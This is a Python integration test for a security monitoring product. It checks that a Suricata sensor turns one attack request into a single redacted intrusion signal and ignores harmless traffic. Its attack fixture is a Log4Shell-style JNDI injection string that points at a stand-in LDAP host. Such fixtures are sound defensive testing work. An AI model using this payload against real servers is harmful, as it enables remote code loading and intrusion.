"""A real Suricata sees an attack and ordinary traffic; the centre gets one typed, redacted signal of the attack."""

from __future__ import annotations

from pathlib import Path

import pytest

from qorgan.law.asoi import SignalType
from qorgan.law.severity import Severity
from qorgan.wire import record
from qorgan.wire.signal import Action, DestinationRole, Perimeter
from tests.faults.line import Line, until
from tests.products import intrusion_detection

pytestmark = pytest.mark.products
IIN = "900101300017"
ATTACK = f"GET /login?iin={IIN}&next=${{jndi:ldap://198.51.100.9/a}} HTTP/1.1\r\nHost: bank.example\r\n\r\n".encode()
HARMLESS = b"GET /rates HTTP/1.1\r\nHost: bank.example\r\n\r\n"


@pytest.mark.clause("R67.8.1")
@pytest.mark.clause("R67.4")
def test_an_attack_that_suricata_sees_is_one_signal_and_other_traffic_is_none(line: Line, tmp_path: Path) -> None:
    sensor = intrusion_detection.made(tmp_path / "suricata")
    line.read_from(f'kind = "file"\nname = "ids"\npath = "{sensor.log}"')
    line.start_module()
    sensor.watch({40_000: HARMLESS, 40_001: ATTACK, 40_002: HARMLESS})
    written = sensor.log.read_text()
    assert '"event_type":"http"' in written
    assert '"event_type":"flow"' in written
    assert IIN in written
    until(lambda: line.stored_count() >= 1, 30, "a signal of the attack")
    with line.database() as connection:
        rows = connection.execute("SELECT record FROM signal").fetchall()
    (signal,) = (record.decode(row[0]) for row in rows)
    assert (signal.type, signal.severity, signal.action) == (SignalType.IDS, Severity.HIGH, Action.DETECTED)
    assert (signal.sensor.product, signal.sensor.rule_id) == ("Suricata", str(intrusion_detection.RULE_ID))
    assert signal.source is not None
    assert (signal.source.address, signal.perimeter) == (intrusion_detection.ATTACKER, Perimeter.EXTERNAL)
    assert signal.destination is not None
    assert signal.destination.role is DestinationRole.WEB
    assert signal.techniques == ("T1190",)
    everything = record.encode(signal).decode()
    assert IIN not in everything
    assert intrusion_detection.VICTIM not in everything
